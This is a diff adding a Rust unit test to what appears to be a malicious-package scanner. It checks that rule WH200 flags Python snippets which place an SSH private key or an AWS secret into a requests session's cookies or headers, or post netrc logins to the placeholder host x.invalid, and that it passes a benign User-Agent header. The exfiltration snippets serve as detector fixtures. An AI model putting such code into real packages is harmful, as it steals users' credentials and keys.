@@ -473,6 +473,16 @@ mod tests {
     use crate::rules::testing::{findings, max_severity};
 
     #[test]
+    fn a_session_sends_what_its_cookies_and_headers_hold() {
+        let cookies = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\ns = requests.Session()\ns.cookies.set('sid', key)\ns.get('https://x.invalid/ping')\n";
+        assert!(max_severity("p/pkg/__init__.py", cookies, "WH200") >= 0.7);
+        let headers = "import os, requests\ns = requests.Session()\ns.headers['X-Id'] = os.environ['AWS_SECRET_ACCESS_KEY']\ns.get('https://x.invalid/ping')\n";
+        assert!(max_severity("p/pkg/__init__.py", headers, "WH200") >= 0.7);
+        let agent = "import requests\ns = requests.Session()\ns.headers['User-Agent'] = 'tool/1.0'\ns.get('https://x.invalid/ping')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", agent, "WH200"), 0.0);
+    }
+
+    #[test]
     fn saved_netrc_logins_sent_away_are_stolen() {
         let dump = "import netrc, requests\nlogins = netrc.netrc().hosts\nrequests.post('https://x.invalid/c', json=logins)\n";
         assert!(max_severity("p/pkg/__init__.py", dump, "WH200") >= 0.7);
